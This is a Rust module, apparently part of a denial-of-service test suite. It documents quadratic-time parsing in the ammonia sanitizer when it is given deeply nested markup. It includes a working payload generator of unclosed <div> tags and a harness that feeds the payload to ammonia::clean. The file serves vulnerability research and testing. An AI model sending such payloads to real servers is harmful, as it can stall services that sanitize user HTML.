//! Deeply nested markup through ammonia's HTML sanitizer.
//!
//! **Crate:** ammonia 4.x, which parses with html5ever (open issue
//! html5ever#788; html5ever#289 asks for linear-time parsing in general).
//! **Issue:** on every start tag the tree builder scans the whole stack of open
//! elements, as the HTML spec writes it (for example, "is there a `p` in
//! button scope to close?"), and nothing caps the depth, where browsers stop
//! nesting at 512. **Growth:** O(depth²): `<div>` × n costs about n²/2 steps,
//! so a 100 KB body takes seconds.

use crate::{AttackError, util};

/// `<div>` repeated `n` times, never closed: 5n bytes of nesting depth n.
pub fn payload(n: usize) -> Vec<u8> {
    b"<div>".repeat(n)
}

/// Sanitizes the body with `ammonia::clean`, as a server does with
/// user-supplied HTML, and reports the sizes.
pub fn handle(body: &[u8]) -> Result<String, AttackError> {
    let html = util::utf8("ammonia-nesting", body)?;
    let clean = ammonia::clean(html);
    Ok(format!(
        "sanitized {} bytes into {} bytes",
        html.len(),
        clean.len()
    ))
}
